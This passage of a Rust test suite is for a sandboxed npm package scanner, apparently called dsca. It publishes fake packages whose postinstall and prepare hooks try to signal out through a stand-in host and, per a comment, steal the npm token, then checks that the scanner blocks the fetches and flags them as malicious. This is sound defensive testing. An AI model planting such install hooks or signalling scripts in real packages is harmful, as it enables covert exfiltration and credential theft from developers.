            .iter()
            .any(|p| p.to_string().contains("node build.js")),
        "the dependency's postinstall did not run: {processes:#?}"
    );
    assert_ne!(honest["verdict"]["level"], "malicious", "{honest:#}");

    // Refused: npm gets the sink's answer and nothing is fetched.
    let refused = scan_dynamic(
        &registry,
        &["--connect-to", &connect_to, "--no-url-dependencies"],
        "eslint-plugin-tidy@1.0.0",
    );
    let requests = phase_records(&refused["dynamic"], "/http");
    assert!(
        requests
            .iter()
            .all(|r| r["fetched"].is_null() && r["status"] != 200 || r["registry"] == true),
        "{requests:#?}"
    );
    assert_eq!(files.requests().len(), 2, "{:?}", files.requests());

    // A script cannot make the host fetch what another published package declares: it
    // asks the proxy for that packument, then for one of its URLs; neither leaves.
    registry.publish(
        PackageBuilder::new("signal-kit", "1.0.0")
            .script("postinstall", "node signal.js")
            .file("signal.js", SIGNAL_SCRIPT)
            .build(),
    );
    let signalled = scan_dynamic(
        &registry,
        &["--connect-to", &connect_to],
        "signal-kit@1.0.0",
    );
    let requests = phase_records(&signalled["dynamic"], "/http");
    assert!(
        requests.iter().any(
            |r| r["url"] == "http://packages.example/npm/colour-names.tgz"
                && r["fetched"].is_null()
        ),
        "{requests:#?}"
    );
    assert_eq!(files.requests().len(), 2, "{:?}", files.requests());
}

/// Asks the registry for a package it does not depend on (palette-kit, which declares
/// a URL dependency), then for that URL: choosing which URLs the host fetches would be
/// a way to signal out.
const SIGNAL_SCRIPT: &str = r#"const http = require('http');
const https = require('https');
https.get('https://registry.npmjs.org/palette-kit', (res) => {
  res.resume();
  res.on('end', () => {
    http.get('http://packages.example/npm/colour-names.tgz', (r) => r.resume()).on('error', () => {});
  });
}).on('error', () => {});
setTimeout(() => {}, 1500);
"#;

/// A stand-in for GitHub over TLS (`names` among github.com and codeload.github.com)
/// serving the tarball of `commit` of acme/build-helpers, whose prepare steals the npm
/// token; and the file of its CA, for dsca's trust store.
fn github_with_payload(
    scratch: &std::path::Path,
    names: &[&str],
    commit: &str,
) -> (TestFileHost, std::path::PathBuf) {
    let host = TestFileHost::start_tls(names);
    host.serve(
        &format!("/acme/build-helpers/tar.gz/{commit}"),
        PackageBuilder::new("build-helpers", "1.0.0")
            .prefix(&format!("build-helpers-{commit}"))
            .script("prepare", "node prepare.js")
            .file("prepare.js", URL_PAYLOAD_SCRIPT)
            .build(),
    );
    let ca = scratch.join("test-ca.pem");
    std::fs::write(&ca, host.ca_pem().expect("a TLS host")).expect("the test CA");
    (host, ca)
}

/// `dsca scan --dynamic` of `spec` with `host` trusted and standing in for `names`.
fn scan_with_git_host(
    registry: &TestRegistry,
    host: &TestFileHost,
    ca: &std::path::Path,
    names: &[&str],
    spec: &str,
) -> Value {
    let home = TempHome::new();
    let mut command = dsca(&home);
    command
        .env("SSL_CERT_FILE", ca)
        .args(["scan", "--dynamic", "--format", "json", "--registry"])
        .arg(registry.url());
    for name in names {
        command.args(["--connect-to", &format!("{name}:443:{}", host.addr())]);
    }
    let (code, report, stderr) = scan_json(command.arg(spec));
    assert_eq!(code, 0, "{stderr}\n{report:#}");
    report
}

#[test]
fn a_git_dependencys_prepare_runs_from_the_hosts_tarball_and_is_judged() {
    if !sandbox_tests_enabled("a_git_dependencys_prepare_runs_from_the_hosts_tarball_and_is_judged")
    {
        return;
    }
    let commit = "a17dba25ee3ea8eb66770b2e68e9351ea83ef1eb";
    let scratch = dsca_test::temp_dir();
    let names = ["codeload.github.com"];
    let (github, ca) = github_with_payload(scratch.path(), &names, commit);
    let registry = TestRegistry::start();
    registry.publish(
        PackageBuilder::new("router-kit", "1.0.0")
            .manifest_field(
                "optionalDependencies",
                // Pinned to a commit, as TanStack's was: npm fetches the host's tarball of
                // it (a branch name would make npm clone with git).
                serde_json::json!({"build-helpers": format!("github:acme/build-helpers#{commit}")}),
            )
            .file("index.js", "module.exports = {};\n")
            .build(),
    );
    let report = scan_with_git_host(&registry, &github, &ca, &names, "router-kit@1.0.0");
    let run = &report["dynamic"];
    let tarball = format!("https://codeload.github.com/acme/build-helpers/tar.gz/{commit}");
    let requests = phase_records(run, "/http");
    let outside: Vec<&Value> = requests.iter().filter(|r| r["registry"] != true).collect();
    assert!(
        outside.iter().any(|r| r["url"] == tarball.as_str()
            && r["status"] == 200
            && r["fetched"]
                .as_str()
                .is_some_and(|n| n.starts_with("fetched on the host"))),
        "{requests:#?}"
    );
    // What the payload sent is answered by the sink, never fetched.
    assert!(
        outside
            .iter()
            .filter(|r| r["url"] != tarball.as_str())
            .all(|r| r["fetched"].is_null()),
        "{requests:#?}"
    );
    assert_eq!(
        github.requests(),
        [format!("/acme/build-helpers/tar.gz/{commit}")]
    );
    let commands = phase_records(run, "/commands");
    assert!(
        commands
            .iter()
            .any(|p| p.to_string().contains("node prepare.js")),
        "the git dependency's prepare did not run: {commands:#?}"
    );
    assert!(
        !phase_records(run, "/honeytokens/exfiltrations").is_empty(),
        "{run:#}"
    );
    assert_eq!(
        report["verdict"]["level"],
        "malicious",
        "{:?}",
        rule_ids(&report)
    );
}

/// A bare repository whose one commit (on `main`) holds `files`: its directory and the
/// commit.
fn git_repository(dir: &std::path::Path, files: &[(&str, &str)]) -> (std::path::PathBuf, String) {
    let work = dir.join("work");
    std::fs::create_dir_all(&work).expect("a work tree");
    for (path, contents) in files {
        std::fs::write(work.join(path), contents).expect("a file of the repository");
    }
    let git = |args: &[&str], cwd: &std::path::Path| {
        let output = std::process::Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@example.invalid"])
            .args(args)
            .current_dir(cwd)
            .output()
            .expect("git runs");
        assert!(output.status.success(), "git {args:?}: {output:?}");
        String::from_utf8_lossy(&output.stdout).trim().to_string()
    };
    git(&["init", "-q", "-b", "main"], &work);
    git(&["add", "."], &work);
    git(&["commit", "-q", "-m", "build helpers"], &work);
    let commit = git(&["rev-parse", "HEAD"], &work);
    git(&["clone", "-q", "--bare", "work", "bare.git"], dir);
    (dir.join("bare.git"), commit)
}

#[test]
fn a_git_dependency_on_a_branch_is_cloned_through_the_host_and_judged() {
    let name = "a_git_dependency_on_a_branch_is_cloned_through_the_host_and_judged";
    if !sandbox_tests_enabled(name) {
        return;
    }
    let manifest =
        r#"{"name":"build-helpers","version":"1.0.0","scripts":{"prepare":"node prepare.js"}}"#;
    let scratch = dsca_test::temp_dir();
    let (bare, commit) = git_repository(
        scratch.path(),
        &[
            ("package.json", manifest),
            ("prepare.js", URL_PAYLOAD_SCRIPT),
        ],
    );
    let names = ["github.com", "codeload.github.com"];
    let (host, ca) = github_with_payload(scratch.path(), &names, &commit);
    host.serve_git_repository("/acme/build-helpers.git", &bare);
    let registry = TestRegistry::start();
    registry.publish(
        PackageBuilder::new("router-kit", "2.0.0")
            .dependency("build-helpers", "github:acme/build-helpers#main")
            .file("index.js", "module.exports = {};\n")
            .build(),
    );
    let report = scan_with_git_host(&registry, &host, &ca, &names, "router-kit@2.0.0");
    let run = &report["dynamic"];
    let requests = phase_records(run, "/http");
    let fetched = |method: &str, url: &str| {
        requests.iter().any(|r| {
            r["method"] == method
                && r["url"] == url
                && r["status"] == 200
                && r["fetched"]
                    .as_str()
                    .is_some_and(|n| n.starts_with("fetched on the host"))
        })
    };
    for (method, url) in [
        (
            "GET",
            "https://github.com/acme/build-helpers.git/info/refs?service=git-upload-pack"
                .to_string(),
        ),
        (
            "POST",
            "https://github.com/acme/build-helpers.git/git-upload-pack".to_string(),
        ),
        (
            "GET",
            format!("https://codeload.github.com/acme/build-helpers/tar.gz/{commit}"),
        ),
    ] {
        assert!(fetched(method, &url), "{method} {url}: {requests:#?}");
    }
    let commands = phase_records(run, "/commands");
    assert!(
        commands
            .iter()
            .any(|p| p.to_string().contains("node prepare.js")),
        "the git dependency's prepare did not run: {commands:#?}"
    );
    assert_eq!(
        report["verdict"]["level"],
        "malicious",
        "{:?}",
        rule_ids(&report)
    );
}
